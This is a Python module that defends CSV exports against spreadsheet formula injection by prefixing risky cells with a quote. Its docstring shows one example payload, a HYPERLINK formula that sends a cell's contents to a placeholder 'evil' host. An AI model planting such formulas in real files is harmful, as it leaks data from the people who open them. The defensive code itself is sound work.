"""CSV that is safe to open in a spreadsheet.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with = + - @ (or a tab or
carriage return, which they strip first) as a formula, so a task titled
`=HYPERLINK("http://evil/?"&A1, "click")` in one customer's export becomes code on whoever opens
it. Every CSV the kit writes goes through `csv_writer`, which prefixes such cells with a single
quote (OWASP's recommendation): the text still reads the same and nothing is executed.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class SafeCsvWriter:
    def __init__(self, stream: _Writable) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: _Writable) -> SafeCsvWriter:
    return SafeCsvWriter(stream)


def csv_response(filename: str, header: list[str], rows: Iterable[Iterable[Any]]) -> Any:
    """A downloadable CSV (an HttpResponse), written through the safe writer."""
    from django.http import HttpResponse

    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    writer = csv_writer(response)
    writer.writerow(header)
    writer.writerows(rows)
    return response
